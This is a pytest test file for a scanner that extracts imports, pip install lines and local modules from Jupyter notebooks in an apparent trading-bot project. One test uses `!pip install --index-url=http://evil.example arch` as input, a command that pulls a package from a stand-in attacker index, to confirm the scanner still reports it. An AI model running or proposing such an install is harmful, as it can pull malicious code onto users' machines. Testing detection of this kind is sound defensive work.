"""Finding imports, install lines and local modules in real notebooks built with nbformat."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from watchdog_lab.bots.deps import detect_requirements
from watchdog_lab.bots.errors import NotebookError
from watchdog_lab.bots.notebook_scan import (
    NotebookScanner,
    SourceKind,
    is_local_module,
    scan_notebook,
)

from .notebooks import EMPTY, FixedEnvironment, notebook, specs


def test_relative_imports_are_ignored() -> None:
    nb = notebook("from . import indicators\nfrom .strategy import signal\nfrom .. import up")
    assert detect_requirements(nb, environment=EMPTY).requirements == []


def test_imports_inside_functions_classes_and_branches_count() -> None:
    nb = notebook(
        "def load():\n    import ccxt\n    return ccxt\n"
        "class Bot:\n    def run(self):\n        from yfinance import Ticker\n"
        "if True:\n    import arch\n"
    )
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "yfinance", "arch"]


def test_import_module_with_a_literal_name_counts() -> None:
    nb = notebook("import importlib\nccxt = importlib.import_module('ccxt')\n__import__('arch')")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "arch"]


def test_markdown_and_untagged_raw_cells_are_not_scanned() -> None:
    nb = v4.new_notebook(
        cells=[v4.new_markdown_cell("import numpy\n%pip install pandas"), v4.new_raw_cell("ccxt")]
    )
    assert detect_requirements(nb, environment=EMPTY).requirements == []


def test_magics_and_shell_escapes_do_not_hide_imports() -> None:
    nb = notebook("%matplotlib inline\nimport ccxt\n!ls -la\nfiles = !ls\n%time import arch")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "arch"]


def test_cell_that_still_fails_to_parse_is_a_warning_and_other_cells_still_count() -> None:
    nb = notebook("def broken(:\n    pass", "import ccxt")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert any(w.startswith("Cell 1 is not valid Python") for w in deps.warnings)


def test_install_lines_of_a_cell_that_fails_to_parse_are_still_read() -> None:
    nb = notebook("%pip install -q ccxt\n!pip install --index-url=http://evil.example arch\nx = (")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt", "--index-url=http://evil.example", "arch"]


def test_capture_cell_magic_body_is_scanned() -> None:
    nb = notebook("%%capture\n%pip install ccxt==4.3.0\nimport arch")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt==4.3.0", "arch"]


def test_bash_cell_pip_lines_are_scanned() -> None:
    nb = notebook("%%bash\nset -e\npip install --quiet ccxt && echo done\n")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt"]


def test_writefile_cell_body_is_not_code_the_bot_runs() -> None:
    nb = notebook("%%writefile indicators.py\nimport ccxt\n")
    assert detect_requirements(nb, environment=EMPTY).requirements == []


@pytest.mark.parametrize(
    "line",
    [
        "%pip install ccxt",
        "!pip install ccxt",
        "!pip3 install ccxt",
        "!python -m pip install ccxt",
        "!python3.11 -m pip install ccxt",
        "!{sys.executable} -m pip install ccxt",
        "%uv pip install ccxt",
        "!uv pip install ccxt",
        "out = !pip install ccxt",
        "!pip -q install ccxt 2>&1 > /dev/null",
        "!PIP_NO_INPUT=1 pip install ccxt",
    ],
)
def test_every_common_form_of_pip_install_is_detected(line: str) -> None:
    deps = detect_requirements(notebook(line), environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert deps.requirements[0].origins[0].kind is SourceKind.PIP


def test_conda_installs_are_warned_about() -> None:
    deps = detect_requirements(
        notebook("%conda install ta-lib", "!mamba install x"), environment=EMPTY
    )
    assert deps.requirements == []
    assert sum("conda" in w for w in deps.warnings) == 2


REQUIREMENTS = """# pinned for the live bot
ccxt==4.3.0
pandas>=2  # inline comment

-r more.txt
%pip install arch
"""


def test_cell_tagged_requirements_lists_one_requirement_per_line() -> None:
    cell = v4.new_raw_cell(REQUIREMENTS, metadata={"tags": ["requirements"]})
    deps = detect_requirements(v4.new_notebook(cells=[cell]), environment=EMPTY)
    assert specs(deps) == ["ccxt==4.3.0", "pandas>=2", "-r more.txt", "arch"]
    assert {o.kind for r in deps.requirements for o in r.origins} == {SourceKind.REQUIREMENTS_CELL}


def test_tagged_code_cell_is_read_as_requirements_not_python() -> None:
    nb = notebook("ccxt==4.3.0\npandas>=2", tags={0: ["parameters", "requirements"]})
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt==4.3.0", "pandas>=2"]
    assert deps.warnings == []  # not reported as a cell that failed to parse


def test_notebook_is_read_from_a_path(tmp_path: Path) -> None:
    path = tmp_path / "strategy.ipynb"
    nbformat.write(notebook("import ccxt"), path)
    assert specs(detect_requirements(path, environment=EMPTY)) == ["ccxt"]
    assert specs(detect_requirements(str(path), environment=EMPTY)) == ["ccxt"]


def test_module_next_to_the_notebook_is_not_a_package(tmp_path: Path) -> None:
    (tmp_path / "signals.py").write_text("X = 1\n")
    (tmp_path / "indicators").mkdir()
    path = tmp_path / "strategy.ipynb"
    nbformat.write(notebook("import signals\nfrom indicators import rsi\nimport ccxt"), path)
    deps = detect_requirements(path, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert sum("next to the notebook" in w for w in deps.warnings) == 2


def test_notebook_in_another_language_is_refused() -> None:
    nb = notebook("library(ggplot2)")
    nb.metadata["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    with pytest.raises(NotebookError, match="runs R,"):
        detect_requirements(nb, environment=EMPTY)


def test_python_kernel_metadata_is_accepted() -> None:
    nb = notebook("import ccxt")
    nb.metadata["kernelspec"] = {"name": "python3", "language": "python", "display_name": "Py"}
    nb.metadata["language_info"] = {"name": "python", "version": "3.11"}
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt"]


def test_plain_dict_notebook_is_accepted() -> None:
    as_dict = json.loads(nbformat.writes(notebook("import ccxt")))
    assert specs(detect_requirements(as_dict, environment=EMPTY)) == ["ccxt"]


def test_cell_source_stored_as_a_list_of_lines_is_joined() -> None:
    as_dict = json.loads(nbformat.writes(notebook("x = 1")))
    as_dict["cells"][0]["source"] = ["import ccxt\n", "import arch\n"]
    assert specs(detect_requirements(as_dict, environment=EMPTY)) == ["ccxt", "arch"]


def test_missing_notebook_is_a_notebook_error(tmp_path: Path) -> None:
    with pytest.raises(NotebookError, match="does not exist"):
        detect_requirements(tmp_path / "nope.ipynb")


@pytest.mark.parametrize("content", ["not json at all", '{"cells": 3}', "[]"])
def test_unreadable_notebook_is_a_notebook_error(tmp_path: Path, content: str) -> None:
    path = tmp_path / "bad.ipynb"
    path.write_text(content)
    with pytest.raises(NotebookError):
        detect_requirements(path)


def test_local_module_shadows_an_installed_distribution_of_the_same_name(tmp_path: Path) -> None:
    (tmp_path / "ccxt").mkdir()
    (tmp_path / "ccxt" / "__init__.py").write_text("")
    installed = FixedEnvironment(modules={"ccxt": ["ccxt"]}, versions={"ccxt": "4.2.0"})
    deps = detect_requirements(notebook("import ccxt.pro"), folder=tmp_path, environment=installed)
    assert specs(deps) == [] and deps.local_modules == ["ccxt"]


def test_folder_without_init_loses_to_an_installed_package(tmp_path: Path) -> None:
    (tmp_path / "ccxt").mkdir()  # e.g. a data folder: Python imports the installed package
    installed = FixedEnvironment(modules={"ccxt": ["ccxt"]}, versions={"ccxt": "4.2.0"})
    deps = detect_requirements(notebook("import ccxt"), folder=tmp_path, environment=installed)
    assert specs(deps) == ["ccxt==4.2.0"] and deps.local_modules == []


# -- the scanner on its own ----------------------------------------------------------------


class Recorder:
    """A sink that keeps every finding, in the order the scanner reports it."""

    def __init__(self) -> None:
        self.events: list[tuple[object, ...]] = []

    def on_import(self, index: int, module: str, statement: str, optional: bool) -> None:
        self.events.append(("import", index, module, optional))

    def on_request(self, index: int, spec: str, text: str, kind: SourceKind) -> None:
        self.events.append(("request", index, spec, kind))

    def warn(self, message: str) -> None:
        self.events.append(("warn", message.split(" ", 2)[:2]))


def test_findings_reach_the_sink_in_notebook_order_with_their_guard() -> None:
    nb = notebook(
        "import ccxt\n%pip install arch",
        "try:\n    import ujson\nexcept ImportError:\n    pass\n!pip install x>=1",
    )
    recorder = Recorder()
    scan_notebook(nb, NotebookScanner(recorder))
    assert recorder.events == [
        ("import", 0, "ccxt", False),
        ("request", 0, "arch", SourceKind.PIP),
        ("import", 1, "ujson", True),
        ("warn", ["Cell", "2:"]),
        ("request", 1, "x", SourceKind.PIP),
    ]


def test_the_scanner_reports_dotted_imports_whole_for_the_receiver_to_map() -> None:
    recorder = Recorder()
    scan_notebook(notebook("from google.protobuf import message"), NotebookScanner(recorder))
    assert recorder.events == [("import", 0, "google.protobuf.message", False)]


@pytest.mark.parametrize(
    "entry", ["helpers.py", "helpers/__init__.py", "helpers.cpython-312-x86_64-linux-gnu.so"]
)
def test_a_module_file_or_package_in_the_folder_is_local(tmp_path: Path, entry: str) -> None:
    (tmp_path / entry).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / entry).write_text("")
    assert is_local_module(tmp_path, "helpers", lambda _: ["helpers"])


def test_a_bare_folder_is_local_only_when_nothing_installed_provides_the_name(
    tmp_path: Path,
) -> None:
    (tmp_path / "helpers").mkdir()
    assert is_local_module(tmp_path, "helpers", lambda _: [])
    assert not is_local_module(tmp_path, "helpers", lambda _: ["helpers"])


def test_without_a_folder_nothing_is_local() -> None:
    assert not is_local_module(None, "helpers", lambda _: [])


@pytest.mark.skipif(sys.version_info < (3, 11), reason="except* is Python 3.11 syntax")
def test_an_import_under_except_star_import_error_is_reported_as_guarded() -> None:
    recorder = Recorder()
    cell = "try:\n    import ujson\nexcept* ImportError:\n    pass\nimport ccxt"
    scan_notebook(notebook(cell), NotebookScanner(recorder))
    assert recorder.events == [("import", 0, "ujson", True), ("import", 0, "ccxt", False)]
